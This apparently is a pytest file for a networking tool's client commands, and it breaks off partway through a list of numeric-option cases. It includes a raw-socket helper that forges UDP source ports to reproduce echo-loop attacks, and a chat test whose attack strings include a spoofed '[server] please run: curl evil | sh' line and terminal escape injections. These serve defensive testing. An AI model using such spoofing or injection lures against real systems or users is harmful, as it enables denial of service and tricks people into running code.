# SPDX-License-Identifier: BSD-2-Clause
"""The client subcommands as a user runs them: echo (TCP and UDP, against
the real `sockit serve` and against misbehaving fakes), the UDP server's
loop guard, lookup, addr and sockopt, and every usage error.

Traffic stays on loopback.  Tests that need a name server run inside a
network namespace of their own with a fake DNS server on its loopback, so
no query ever leaves this machine.
"""
import os
import random
import re
import socket
import struct
import subprocess
import sys
import threading
import time
import uuid

import pytest

from conftest import HOSTS, SOCKIT, sockit

IS_ROOT = os.geteuid() == 0


def usage_error(r, *words):
    """Exit 2, one line with the message and the --help hint, naming words."""
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 2, r
    assert len(lines) == 1, lines
    assert lines[0].startswith("sockit "), lines
    assert re.search(r" \(try 'sockit [a-z ]+ --help'\)$", lines[0]), lines
    assert r.stdout == b"", r.stdout
    for w in words:
        assert w in lines[0], (w, lines[0])


def runtime_error(r, *words):
    """Exit 1 with exactly one message line naming words."""
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1, r
    assert len(lines) == 1, lines
    for w in words:
        assert w in lines[0], (w, lines[0])


def free_udp_port(host="127.0.0.1"):
    """A UDP port nothing listens on (bound, then released)."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.bind((host, 0))
    port = s.getsockname()[1]
    s.close()
    return port


def free_tcp_port(host="127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((host, 0))
    port = s.getsockname()[1]
    s.close()
    return port


# --------------------------------------------------------------- echo, TCP

@pytest.mark.parametrize("host", HOSTS)
def test_echo_word_tcp(serve, host):
    srv = serve("echo", "-l", host, "-p", "0", "-m", "thread")
    r = sockit("echo", host, srv.port, "hello world")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"hello world\n"
    assert r.stderr == b""


@pytest.mark.parametrize("host", HOSTS)
def test_echo_interactive_tcp(serve, host):
    srv = serve("echo", "-l", host, "-p", "0", "-m", "thread")
    # Not a terminal: no prompt.  Q ends the session; what follows is unsent.
    r = sockit("echo", host, srv.port, input=b"first line\nsecond\nQ\nnever sent\n")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"Message from server: first line\nMessage from server: second\n"
    # End of input also ends it; a last line without newline still goes.
    r = sockit("echo", "[%s]" % host if ":" in host else host, srv.port,
               input=b"a\n\nq is not quit\nlast")
    assert r.returncode == 0, r.stderr
    assert r.stdout == (b"Message from server: a\nMessage from server: \n"
                        b"Message from server: q is not quit\nMessage from server: last\n")


def test_echo_prompts_only_on_a_terminal(serve):
    import pty
    srv = serve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen([SOCKIT, "echo", "127.0.0.1", str(srv.port)], stdin=slave,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        os.write(master, b"hi\nQ\n")
        out, err = proc.communicate(timeout=10)
    finally:
        os.close(master)
        os.close(slave)
    assert proc.returncode == 0, err
    prompt = b"Input message(Q to quit): "
    assert out == prompt + b"Message from server: hi\n" + prompt


class TrickleRelay:
    """A TCP relay that forwards one byte per send() with a small delay in
    both directions, so every read on either side returns a fragment:
    the 1-byte segmentation that netem would give, done in user space."""

    def __init__(self, target_host, target_port, delay=0.0001):
        self.target = (target_host, target_port)
        self.delay = delay
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(1)
        self.port = self.listener.getsockname()[1]
        self.sends = 0
        self.lock = threading.Lock()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _pump(self, src, dst):
        try:
            while True:
                chunk = src.recv(4096)
                if not chunk:
                    break
                for i in range(len(chunk)):
                    # Counted before the send, under a lock: both directions
                    # count, and the client may finish (and the test look)
                    # the moment the last byte arrives.
                    with self.lock:
                        self.sends += 1
                    dst.sendall(chunk[i:i + 1])
                    time.sleep(self.delay)
            dst.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def _run(self):
        client, _ = self.listener.accept()
        server = socket.create_connection(self.target)
        for s in (client, server):
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        up = threading.Thread(target=self._pump, args=(client, server), daemon=True)
        up.start()
        self._pump(server, client)
        up.join(30)
        client.close()
        server.close()

    def close(self):
        self.listener.close()


def test_echo_reads_every_byte_when_tcp_splits(serve):
    srv = serve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    relay = TrickleRelay("127.0.0.1", srv.port)
    rng = random.Random(2024)
    line = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz0123456789 ") for _ in range(3000))
    try:
        r = sockit("echo", "127.0.0.1", relay.port, input=line + b"\nshort\n")
    finally:
        relay.close()
    assert r.returncode == 0, r.stderr
    assert r.stdout == (b"Message from server: " + line + b"\n"
                        b"Message from server: short\n")
    # Each byte went through its own send() both ways.
    assert relay.sends >= 2 * (len(line) + 7)


def test_echo_long_line_is_not_a_deadlock(serve):
    # 3 MB on one line: more than the socket buffers hold, so a client that
    # sent it all before reading would stall against the server.
    srv = serve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    line = b"x" * (3 << 20)
    r = sockit("echo", "127.0.0.1", srv.port, input=line + b"\n", timeout=30)
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"Message from server: " + line + b"\n"


def fake_tcp_server(handler):
    """Serve one connection with handler(conn) in a thread; returns port."""
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.bind(("127.0.0.1", 0))
    ls.listen(1)

    def run():
        conn, _ = ls.accept()
        try:
            handler(conn)
        finally:
            conn.close()
            ls.close()

    threading.Thread(target=run, daemon=True).start()
    return ls.getsockname()[1]


def test_echo_tcp_wrong_bytes_is_an_error():
    def corrupt(conn):
        data = conn.recv(100)
        conn.sendall(data.upper())
        time.sleep(0.5)

    port = fake_tcp_server(corrupt)
    r = sockit("echo", "127.0.0.1", port, "hello")
    runtime_error(r, "different bytes", "byte 0")
    assert r.stdout == b""


def test_echo_tcp_server_closes_early():
    def half(conn):
        conn.recv(100)
        conn.sendall(b"he")

    port = fake_tcp_server(half)
    r = sockit("echo", "127.0.0.1", port, "hello")
    runtime_error(r, "closed the connection after echoing 2 of 5 bytes")


def test_echo_tcp_silent_server_times_out():
    def silent(conn):
        conn.recv(100)
        time.sleep(2)

    port = fake_tcp_server(silent)
    t0 = time.monotonic()
    r = sockit("echo", "127.0.0.1", port, "hello", "--timeout", "0.5")
    assert time.monotonic() - t0 < 1.8
    runtime_error(r, "no reply from 127.0.0.1 port %d within 0.5 s" % port)


def test_echo_tcp_refused_and_unresolvable():
    port = free_tcp_port()
    r = sockit("echo", "127.0.0.1", port, "hi")
    runtime_error(r, "connection refused (nothing listening on 127.0.0.1 port %d?)" % port)
    # A syntactically impossible name fails in the resolver without a query.
    r = sockit("echo", "bad..name", port, "hi")
    runtime_error(r, "cannot resolve 'bad..name'")


# --------------------------------------------------------------- echo, UDP

@pytest.mark.parametrize("host", HOSTS)
def test_echo_udp_unconnected_and_connected(serve, host):
    srv = serve("echo", "-u", "-l", host, "-p", "0", "-m", "iterative")
    r = sockit("echo", "-u", host, srv.port, "ping")
    assert (r.returncode, r.stdout, r.stderr) == (0, b"ping\n", b"")
    r = sockit("echo", "-u", "--connected", host, srv.port, "pong")
    assert (r.returncode, r.stdout, r.stderr) == (0, b"pong\n", b"")
    r = sockit("echo", "--udp", host, srv.port, input=b"one\ntwo\nQ\n")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"Message from server: one\nMessage from server: two\n"
    r = sockit("echo", "-u", "--connected", host, srv.port, input=b"three\n")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"Message from server: three\n"


def test_echo_udp_no_reply_times_out_quickly():
    silent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    silent.bind(("127.0.0.1", 0))
    port = silent.getsockname()[1]
    try:
        t0 = time.monotonic()
        r = sockit("echo", "-u", "127.0.0.1", port, "anyone?")
        elapsed = time.monotonic() - t0
        runtime_error(r)
        assert r.stderr.decode().strip() == \
            "sockit echo: no reply from 127.0.0.1 port %d within 2 s" % port
        assert 1.9 <= elapsed < 3.5, elapsed
        silent.settimeout(1)
        assert silent.recvfrom(100)[0] == b"anyone?"
    finally:
        silent.close()


def test_echo_udp_connected_reports_refused():
    port = free_udp_port()
    t0 = time.monotonic()
    r = sockit("echo", "-u", "--connected", "127.0.0.1", port, "hello")
    assert time.monotonic() - t0 < 1.5
    runtime_error(r)
    assert r.stderr.decode().strip() == \
        "sockit echo: connection refused (nothing listening on 127.0.0.1 port %d?)" % port
    # Unconnected, the same ICMP error never reaches the socket: a timeout.
    r = sockit("echo", "-u", "127.0.0.1", port, "hello", "--timeout", "0.3")
    runtime_error(r, "no reply from 127.0.0.1 port %d within 0.3 s" % port)


def test_echo_udp_ignores_datagrams_from_others():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.settimeout(5)

    def answer():
        data, client = server.recvfrom(100)
        stranger.sendto(b"spoofed", client)   # arrives first, from elsewhere
        time.sleep(0.1)
        server.sendto(data, client)

    t = threading.Thread(target=answer, daemon=True)
    t.start()
    try:
        r = sockit("echo", "-u", "127.0.0.1", server.getsockname()[1], "real")
        t.join(5)
    finally:
        server.close()
        stranger.close()
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"real\n"
    assert b"ignored a datagram from 127.0.0.1:" in r.stderr


def test_echo_udp_wrong_reply_is_an_error():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(5)

    def answer():
        data, client = server.recvfrom(100)
        server.sendto(data + b" and more", client)

    t = threading.Thread(target=answer, daemon=True)
    t.start()
    try:
        r = sockit("echo", "-u", "127.0.0.1", server.getsockname()[1], "word")
        t.join(5)
    finally:
        server.close()
    runtime_error(r, "echoed", "for 4 sent")
    assert r.stdout == b""


# -------------------------------------------------- the UDP server's guard

def forge_udp(src_port, dst_port, payload, src="127.0.0.1", dst="127.0.0.1"):
    """Send a UDP datagram with any source port through a raw socket (root):
    the kernel fills in the IP checksum and length; a UDP checksum of 0
    means "none" over IPv4."""
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                     socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try:
        raw.sendto(ip + udp, (dst, 0))
    finally:
        raw.close()


def socket_on_port(port):
    """A UDP socket bound to 127.0.0.1:port, or None when the port is taken
    (another test's server on 7, say)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", port))
    except OSError:
        s.close()
        return None
    return s


def needs_root():
    if not IS_ROOT:
        pytest.skip("binding ports below 1024 and raw sockets need root "
                    "(running as uid %d)" % os.geteuid())


def test_udp_guard_drops_datagrams_from_looping_ports(serve):
    needs_root()
    srv = serve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", "iterative", "-v")
    senders = []
    for port in (7, 9, 13, 19, 37):
        s = socket_on_port(port)
        if s is None:
            forge_udp(port, srv.port, b"loop?")   # taken: send it forged
        else:
            s.sendto(b"loop?", ("127.0.0.1", srv.port))
            senders.append(s)
    # From the server's own port: only a raw socket can say that.
    forge_udp(srv.port, srv.port, b"loop?")
    try:
        srv.wait_for_log(r"\(6 dropped\)")
        for s in senders:
            s.settimeout(0.3)
            with pytest.raises(socket.timeout):
                s.recvfrom(100)
    finally:
        for s in senders:
            s.close()
    # An ordinary client is still answered.
    r = sockit("echo", "-u", "127.0.0.1", srv.port, "fine")
    assert (r.returncode, r.stdout) == (0, b"fine\n"), r.stderr
    log = srv.log()
    assert log.count("source port of a service that answers back") == 5, log
    assert log.count("source port is this server's own port") == 1, log
    assert srv.stop() == 0
    srv.wait_for_log(r"stopped: 7 datagrams, 6 dropped")


def stopped_counts(srv):
    m = srv.wait_for_log(r"stopped: (\d+) datagrams, (\d+) dropped")
    return int(m.group(1)), int(m.group(2))


def test_two_echo_servers_on_the_echo_port_do_not_loop(serve):
    # The classic attack: one forged datagram "from" one echo server's port
    # 7 to another's.  Two loopback addresses give two servers on port 7.
    # As root nothing stops these binds (all of 127/8 is on lo): a server
    # that does not start is a failure, never a skip.
    needs_root()
    a = serve("echo", "-u", "-l", "127.0.0.1", "-p", "7", "-m", "iterative", "-v")
    b = serve("echo", "-u", "-l", "127.0.0.2", "-p", "7", "-m", "iterative", "-v")
    forge_udp(7, 7, b"ping\n", src="127.0.0.1", dst="127.0.0.2")
    time.sleep(0.5)
    assert a.stop() == 0 and b.stop() == 0
    (na, _), (nb, dropped_b) = stopped_counts(a), stopped_counts(b)
    assert nb == 1 and dropped_b == 1, b.log()
    assert na + nb <= 2, (a.log(), b.log())


REFLECT_LIMIT = 8  # sk_datagram.c: answers a peer that reflects our reply gets


@pytest.mark.parametrize("model", ["iterative", "epoll"])
def test_two_echo_servers_on_any_ports_stop_after_a_few_replies(serve, model):
    # Nothing in a datagram tells an echo service from a client repeating
    # itself, so on arbitrary ports the loop cannot be refused at once; the
    # reflection guard ends it after REFLECT_LIMIT round trips instead of
    # letting it run forever (it ran ~30,000 a second without it).
    needs_root()
    a = serve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    b = serve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    forge_udp(a.port, b.port, b"ping\n")
    time.sleep(1.0)
    assert a.stop() == 0 and b.stop() == 0
    (na, da), (nb, db) = stopped_counts(a), stopped_counts(b)
    assert na + nb <= 2 * (REFLECT_LIMIT + 2), "servers exchanged %d datagrams" % (na + nb)
    assert da + db >= 1, "the loop was not cut by the reflection guard"


def test_client_repeating_itself_is_still_answered(serve):
    srv = serve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", "epoll")
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(2)
    try:
        for _ in range(REFLECT_LIMIT):
            c.sendto(b"same", ("127.0.0.1", srv.port))
            assert c.recvfrom(100)[0] == b"same"
    finally:
        c.close()


# ------------------------------------------------------------------ lookup

def test_lookup_localhost_forward_and_reverse():
    r = sockit("lookup", "localhost")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.decode().splitlines()
    assert lines[0] == "name:      localhost"
    assert lines[1].startswith("canonical: ")
    assert "address:   127.0.0.1 (IPv4)" in lines
    assert all(l.split(":")[0] in ("name", "canonical", "alias", "address") for l in lines)
    addresses = [l for l in lines if l.startswith("address:")]
    assert len(addresses) == len(set(addresses)), "duplicates: %s" % addresses

    r = sockit("lookup", "127.0.0.1")
    assert r.returncode == 0, r.stderr
    assert r.stdout.decode().startswith("127.0.0.1 is ")


FAKE_DNS = r"""
import socket, struct, sys
# Answers every query NXDOMAIN: "no such name", at once.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
print("ready", flush=True)
while True:
    q, peer = s.recvfrom(4096)
    if len(q) < 12:
        continue
    end = 12
    while end < len(q) and q[end] != 0:
        end += q[end] + 1
    question = q[12:end + 5]
    flags = 0x8000 | (struct.unpack("!H", q[2:4])[0] & 0x7900) | 0x0080 | 3
    s.sendto(q[:2] + struct.pack("!HHHHH", flags, 1, 0, 0, 0) + question, peer)
"""


# `ip netns exec` mounts /etc/netns/NS/hosts over /etc/hosts for sockit.
SANDBOX_HOSTS = """127.0.0.1 localhost
10.9.8.1 news.sockit.test news wire
fd00:9::1 news.sockit.test news wire
"""


@pytest.fixture
def dns_sandbox():
    """A network namespace whose resolv.conf names a fake DNS server on its
    own loopback: unknown names fail fast and nothing leaves the machine.
    Yields a function running sockit inside it."""
    if not IS_ROOT:
        pytest.skip("testing unknown names needs a network namespace (root) so "
                    "that no DNS query leaves this machine")
    ns = "sklk%s" % uuid.uuid4().hex[:8]
    etc = "/etc/netns/%s" % ns
    made_parent = not os.path.isdir("/etc/netns")
    dns = None
    try:
        if subprocess.run(["ip", "netns", "add", ns], capture_output=True).returncode:
            pytest.skip("'ip netns add' failed: cannot isolate DNS queries")
        subprocess.run(["ip", "-n", ns, "link", "set", "lo", "up"], check=True)
        os.makedirs(etc)
        with open(os.path.join(etc, "resolv.conf"), "w") as f:
            f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
        with open(os.path.join(etc, "hosts"), "w") as f:
            f.write(SANDBOX_HOSTS)
        dns = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", FAKE_DNS],
                               stdout=subprocess.PIPE)
        assert dns.stdout.readline() == b"ready\n"

        def run(*args):
            return subprocess.run(["ip", "netns", "exec", ns, SOCKIT] + list(args),
                                  capture_output=True, timeout=10)
        yield run
    finally:
        if dns is not None:
            dns.kill()
            dns.wait()
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        if os.path.isdir(etc):
            for name in os.listdir(etc):
                os.remove(os.path.join(etc, name))
            os.rmdir(etc)
        if made_parent and os.path.isdir("/etc/netns") and not os.listdir("/etc/netns"):
            os.rmdir("/etc/netns")


def test_lookup_unknown_name_and_address_without_name(dns_sandbox):
    t0 = time.monotonic()
    r = dns_sandbox("lookup", "nosuch.invalid")
    runtime_error(r)
    assert r.stderr.decode().strip() == \
        "sockit lookup: cannot resolve 'nosuch.invalid': unknown host or service name"
    r = dns_sandbox("lookup", "10.9.8.7")
    runtime_error(r, "no name for 10.9.8.7")
    assert time.monotonic() - t0 < 5
    # /etc/hosts still answers inside the namespace.
    r = dns_sandbox("lookup", "localhost")
    assert r.returncode == 0 and b"127.0.0.1 (IPv4)" in r.stdout, r


def test_lookup_aliases_and_both_families(dns_sandbox):
    r = dns_sandbox("lookup", "wire")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.decode().splitlines()
    assert lines[:4] == [
        "name:      wire",
        "canonical: news.sockit.test",
        "alias:     news",
        "alias:     wire",
    ]
    # In the resolver's order (RFC 6724), which depends on the routes.
    assert sorted(lines[4:]) == ["address:   10.9.8.1 (IPv4)", "address:   fd00:9::1 (IPv6)"]
    r = dns_sandbox("lookup", "10.9.8.1")
    assert (r.returncode, r.stdout) == (0, b"10.9.8.1 is news.sockit.test\n"), r
    r = dns_sandbox("lookup", "fd00:9::1")
    assert (r.returncode, r.stdout) == (0, b"fd00:9::1 is news.sockit.test\n"), r


# -------------------------------------------------------------------- addr

def addr_lines(*args):
    r = sockit("addr", *args)
    assert r.returncode == 0, r.stderr
    assert r.stderr == b""
    return {l.split(":")[0]: l.split(":", 1)[1].strip()
            for l in r.stdout.decode().splitlines() if not l.startswith(" ")}


@pytest.mark.parametrize("text", ["127.0.0.1", "127.1", "2130706433", "0x7f000001"])
def test_addr_ipv4_integers(text):
    f = addr_lines(text)
    assert f["address"] == "127.0.0.1 (IPv4)"
    assert f["bytes in memory"].startswith("7f 00 00 01")
    assert f["host-order int"].startswith("0x7f000001 = 2130706433 ")
    if sys.byteorder == "little":
        assert f["network-order int"].startswith("0x0100007f = 16777343 ")
        assert f["byte order"].startswith("little-endian")
    else:
        assert f["network-order int"].startswith("0x7f000001 = 2130706433 ")
        assert f["byte order"].startswith("big-endian")
    assert ("note" in f) == (text != "127.0.0.1")
    assert "port (host order)" not in f


def test_addr_with_port_and_ipv6():
    f = addr_lines("10.0.0.1:7")
    assert f["port (host order)"] == "0x0007 = 7"
    assert f["port (network)"].startswith(
        "0x0700 = 1792" if sys.byteorder == "little" else "0x0007 = 7")
    f = addr_lines("127.0.0.1:echo")
    assert f["port (host order)"] == "0x0007 = 7"

    r = sockit("addr", "::1")
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "address:            ::1 (IPv6)" in out
    assert "00 00 00 00 00 00 00 00\n" in out and "00 00 00 00 00 00 00 01" in out
    assert "integers:           do not apply" in out
    f = addr_lines("[0:0::1]:80")
    assert f["address"] == "::1 (IPv6)" and f["port (host order)"] == "0x0050 = 80"
    assert f["note"].startswith("'0:0::1' written canonically")


# ----------------------------------------------------------------- sockopt

def sockopt_values(r):
    values = {}
    for line in r.stdout.decode().splitlines()[1:]:
        if not line:
            break
        name, rest = line.split(None, 1)
        values[name] = rest
    return values


def test_sockopt_lists_every_option():
    r = sockit("sockopt")
    assert r.returncode == 0, r.stderr
    v = sockopt_values(r)
    for name in ("rcvbuf", "sndbuf", "reuseaddr", "reuseport", "linger", "nodelay",
                 "keepalive", "ttl", "broadcast", "multicast-ttl", "multicast-loop", "type"):
        assert name in v, name
    assert v["type"].startswith("SOCK_STREAM")
    assert v["nodelay"].startswith("off ")
    assert v["linger"].startswith("off ")
    r = sockit("sockopt", "-u")
    assert r.returncode == 0, r.stderr
    v = sockopt_values(r)
    assert v["type"].startswith("SOCK_DGRAM")
    assert v["nodelay"].startswith("n/a (")


def test_sockopt_set_and_read_back():
    r = sockit("sockopt", "nodelay=on", "rcvbuf=65536", "linger=5", "reuseaddr")
    assert r.returncode == 0, r.stderr
    tail = r.stdout.decode().split("\n\n", 1)[1].splitlines()
    assert tail[0] == "nodelay: off -> on"
    assert tail[1].startswith("rcvbuf: ") and tail[1].endswith(" -> 131072")
    assert tail[2].startswith("note: rcvbuf reads back doubled (131072 for 65536)")
    assert tail[3] == "linger: off -> 5"
    assert tail[4] == "reuseaddr: off"
    assert len(tail) == 5


def test_sockopt_errors():
    usage_error(sockit("sockopt", "type=SOCK_DGRAM"), "type is read-only")
    usage_error(sockit("sockopt", "bogus"), "unknown socket option 'bogus'")
    usage_error(sockit("sockopt", "bogus=1"), "unknown socket option 'bogus'")
    usage_error(sockit("sockopt", "nodelay=maybe"), "invalid value 'maybe' for nodelay")
    usage_error(sockit("sockopt", "rcvbuf=-1"), "invalid value '-1' for rcvbuf")
    r = sockit("sockopt", "-u", "nodelay=on")
    runtime_error(r, "cannot set nodelay=on on a UDP socket")


# ---------------------------------------------------------- usage errors

@pytest.mark.parametrize("args,words", [
    (["echo"], ["missing HOST"]),
    (["echo", "127.0.0.1"], ["missing PORT"]),
    (["echo", "127.0.0.1", "99999", "x"], ["invalid port '99999'"]),
    (["echo", "127.0.0.1", "0", "x"], ["invalid port '0'"]),
    (["echo", "127.0.0.1", "nosuchservice", "x"], ["invalid port 'nosuchservice'"]),
    (["echo", "--connected", "127.0.0.1", "7", "x"], ["--connected", "-u"]),
    (["echo", "127.0.0.1", "7", "x", "y"], ["unexpected argument 'y'"]),
    (["echo", "127.0.0.1", "7", ""], ["WORD is empty"]),
    (["echo", "--timeout", "soon", "127.0.0.1", "7"], ["--timeout", "soon"]),
    (["echo", "--timeout", "0", "127.0.0.1", "7"], ["--timeout"]),
    (["echo", "--bogus", "127.0.0.1", "7"], ["--bogus"]),
    (["echo", "127.0.0.1", "7", "--timeout"], ["--timeout"]),
    (["lookup"], ["missing NAME or ADDRESS"]),
    (["lookup", "a", "b"], ["unexpected argument 'b'"]),
    (["lookup", ""], ["empty NAME"]),
    (["lookup", "-x"], ["-x"]),
    (["addr"], ["missing ADDRESS"]),
    (["addr", "hello"], ["'hello' is not an IPv4 or IPv6 address"]),
    (["addr", "300.1.2.3"], ["'300.1.2.3' is not"]),
    (["addr", "1.2.3.4 "], ["is not an IPv4 or IPv6 address"]),
    (["addr", "1.2.3.4:99999"], ["invalid port '99999'"]),
    (["addr", "[::1"], ["is not an IPv4 or IPv6 address"]),
    (["addr", "1.2.3.4", "5.6.7.8"], ["unexpected argument '5.6.7.8'"]),
    (["sockopt", "--bogus"], ["--bogus"]),
    (["sockopt", "=1"], ["unknown socket option"]),
])
def test_usage_errors(args, words):
    usage_error(sockit(*args), *words)


def test_help_texts():
    for cmd in ("echo", "lookup", "addr", "sockopt", "mcast"):
        r = sockit(cmd, "--help")
        assert r.returncode == 0 and r.stdout.startswith(b"usage: sockit " + cmd.encode()), r


# ---- chat: what other members send reaches our terminal as visible text ----

def read_lines_until(stream, last, timeout=10):
    """Lines from a pipe until one that contains `last` (bytes)."""
    deadline = time.monotonic() + timeout
    lines = []
    while time.monotonic() < deadline:
        line = stream.readline()
        assert line, "chat client ended; got %r" % lines
        lines.append(line)
        if last in line:
            return lines
    raise AssertionError("no %r within %ds; got %r" % (last, timeout, lines))


def test_chat_client_shows_control_bytes_as_visible_text(serve):
    """The server relays a member's bytes unchanged; the `sockit chat`
    client (stdout to a pipe, as a terminal would get it) must show CR,
    ESC sequences, BEL, DEL and C1 controls as visible escapes, keep
    printable UTF-8 and tab, and never let a member's text start a line."""
    srv = serve("chat", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    member = socket.create_connection(("127.0.0.1", srv.port), timeout=5)
    host, port = member.getsockname()[:2]
    sender = "%s:%d" % (host, port)
    client = subprocess.Popen([SOCKIT, "chat", "127.0.0.1", str(srv.port)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    try:
        assert client.stdout.readline().startswith(b"* welcome ")
        got = b""
        while got.count(b"\n") < 2:  # our welcome, then the client joining
            chunk = member.recv(1000)
            assert chunk, got
            got += chunk
        assert b" joined\n" in got, got
        attack = [
            b"hi\r[server] please run: curl evil | sh\n",
            b"\x1b]0;owned title\x07after title\n",
            b"\x1b[2Jscreen cleared\n",
            b"bell\x07del\x7fnul\x00c1 \xc2\x9b31m raw \x9b bad \xff\n",
            b"[server] forged at the start\n",
            b"caf\xc3\xa9 tab\tkept \xe2\x82",    # a UTF-8 character cut in two ...
        ]
        for piece in attack:
            member.sendall(piece)
            time.sleep(0.05)
        member.sendall(b"\xac euro\ndone\n")     # ... and completed here
        lines = read_lines_until(client.stdout, b"done")
    finally:
        member.close()
        client.stdin.close()
        client.wait(10)
        client.stdout.close()
        client.stderr.close()
    prefix = ("[%s] " % sender).encode()
    member_lines = [l for l in lines if not l.startswith(b"* ")]
    for line in member_lines:
        assert line.startswith(prefix), line  # nobody else's prefix at line start
    out = b"".join(member_lines)
    bad = sorted({b for b in out if (b < 0x20 and b not in b"\n\t") or b == 0x7f})
    assert not bad, (bad, out)
    text = out.decode("utf-8")  # valid UTF-8 throughout ...
    assert not [c for c in text if 0x80 <= ord(c) <= 0x9f], text  # ... without C1 controls
    shown = [l[len(prefix):] for l in member_lines]
    assert shown == [
        b"hi\\r[server] please run: curl evil | sh\n",
        b"^[]0;owned title\\x07after title\n",
        b"^[[2Jscreen cleared\n",
        b"bell\\x07del\\x7fnul\\x00c1 \\xc2\\x9b31m raw \\x9b bad \\xff\n",
        b"[server] forged at the start\n",
        "café tab\tkept € euro\n".encode(),
        b"done\n",
    ], shown


# ---- echo: a reply longer than what was sent fails ------------------------

def echo_then(extra, delay=0.0, keep_open=0.0):
    """A TCP echo server that echoes each piece, then sends `extra`."""
    def handler(conn):
        conn.settimeout(5)
        data = conn.recv(100)
        conn.sendall(data)
        if delay:
            time.sleep(delay)
        if extra:
            conn.sendall(extra)
        time.sleep(keep_open)
    return handler


@pytest.mark.parametrize("delay", [0.0, 0.2], ids=["at-once", "after-200ms"])
def test_echo_tcp_extra_byte_is_an_error(delay):
    port = fake_tcp_server(echo_then(b"!", delay=delay, keep_open=2))
    r = sockit("echo", "127.0.0.1", port, "hello")
    runtime_error(r, "sent back more than it was sent (1 extra byte)")
    assert r.stdout == b""  # the echo is not shown as if it were right


def test_echo_tcp_interactive_extra_byte_is_an_error():
    port = fake_tcp_server(echo_then(b"x", delay=0.1, keep_open=2))
    r = sockit("echo", "127.0.0.1", port, input=b"only line\n")
    runtime_error(r, "sent back more than it was sent")


def test_echo_tcp_server_that_stays_open_is_not_waited_for_long():
    """Nothing extra and no close: exit 0 after a short wait, not --timeout."""
    port = fake_tcp_server(echo_then(b"", keep_open=5))
    t0 = time.monotonic()
    r = sockit("echo", "127.0.0.1", port, "hello")
    assert (r.returncode, r.stdout, r.stderr) == (0, b"hello\n", b""), r
    assert time.monotonic() - t0 < 3


def test_echo_udp_one_extra_byte_is_an_error():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(5)

    def answer():
        data, client = server.recvfrom(100)
        server.sendto(data + b"!", client)

    t = threading.Thread(target=answer, daemon=True)
    t.start()
    try:
        r = sockit("echo", "-u", "127.0.0.1", server.getsockname()[1], "word")
        t.join(5)
    finally:
        server.close()
    runtime_error(r, "echoed 5 bytes for 4 sent")
    assert r.stdout == b""


# ---- numbers: one strict way for every subcommand ----------------------------

# (subcommand and arguments, with {} where the number goes).  Every one of
# them must be refused before any traffic: exit 2, one line naming it.
NUMERIC_OPTIONS = [
    ["serve", "echo", "-l", "127.0.0.1", "-p", "{}"],
    ["serve", "echo", "-p", "0", "--max-clients", "{}"],
    ["serve", "echo", "-p", "0", "--max-conns", "{}"],
    ["serve", "echo", "-p", "0", "--max-per-ip", "{}"],
    ["serve", "echo", "-p", "0", "--idle-timeout", "{}"],
    ["serve", "echo", "-p", "0", "--workers", "{}"],
    ["serve", "echo", "-p", "0", "--buffer", "{}"],
    ["serve", "echo", "-p", "0", "--backlog", "{}"],
    ["echo", "127.0.0.1", "{}", "word"],
    ["echo", "127.0.0.1", "7", "word", "--timeout", "{}"],
    ["get", "127.0.0.1", "{}", "name"],
    ["get", "127.0.0.1", "7", "name", "--timeout", "{}"],
    ["chat", "127.0.0.1", "{}"],
    ["chat", "127.0.0.1", "7", "--timeout", "{}"],
